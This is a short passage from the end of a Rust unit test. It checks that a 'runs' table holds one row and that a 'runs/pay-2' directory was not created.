        assert_eq!(stores::number(&store, "SELECT count(*) FROM runs"), 1);
        assert!(!session.path("runs/pay-2").exists());
    }
}
